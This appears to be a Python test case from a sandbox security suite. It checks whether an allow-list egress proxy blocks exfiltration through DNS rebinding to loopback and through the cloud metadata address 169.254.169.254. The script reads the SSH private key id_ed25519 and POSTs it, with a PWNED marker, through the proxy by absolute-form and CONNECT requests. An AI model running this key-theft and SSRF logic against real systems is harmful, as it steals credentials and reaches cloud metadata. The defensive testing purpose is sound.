# family: injection
# tries: through stockade-proxy, a POST of the SSH key and a PWNED marker to an allowed name the policy's resolver answers with 127.0.0.1, where the unlisted honeypot listens (DNS rebinding), by absolute-form and by CONNECT; then, refused, an allowed name on 169.254.169.254 (a cloud's metadata address)
# source: https://en.wikipedia.org/wiki/DNS_rebinding
# exfil: yes
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Stopped: the proxy checks every address a name resolves to, and a
# loopback, private or link-local one needs an allow_address: the
# requests are refused as private_address and no byte reaches the
# honeypot. The metadata name is asked only once the loopback one was
# refused, so that a proxy that dials such answers is never sent off the
# host.
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def talk(data, host=pxhost, port=int(pxport or 0), wait=3.0, then=b""):
    """Sends DATA to HOST:PORT, and THEN after the first answer; what came
    back first (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            r = s.recv(4096)
            if then and r.startswith(b"HTTP/1.1 200"):
                s.sendall(then)
                s.recv(4096)
            return r
    except OSError as e:
        return repr(e).encode()


def post(target, host):
    return (b"POST " + target + b"/upload HTTP/1.1\r\nHost: " + host +
            b"\r\nContent-Length: " + str(len(loot)).encode() + b"\r\n\r\n" + loot)


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(post(b"", b"127.0.0.1"), "127.0.0.1", port)[:60])
    sys.exit(0)
refused = True
for name in (b"rebind.test", b"metadata.test"):
    if not refused:
        break
    auth = name + f":{port}".encode()
    a = talk(post(b"http://" + auth, auth))
    c = talk(b"CONNECT " + auth + b" HTTP/1.1\r\nHost: " + auth + b"\r\n\r\n",
             then=post(b"", auth))
    print(name.decode(), a[9:12].decode(errors="replace"),
          c[9:12].decode(errors="replace"))
    refused = a.startswith(b"HTTP/1.1 403") and c.startswith(b"HTTP/1.1 403")
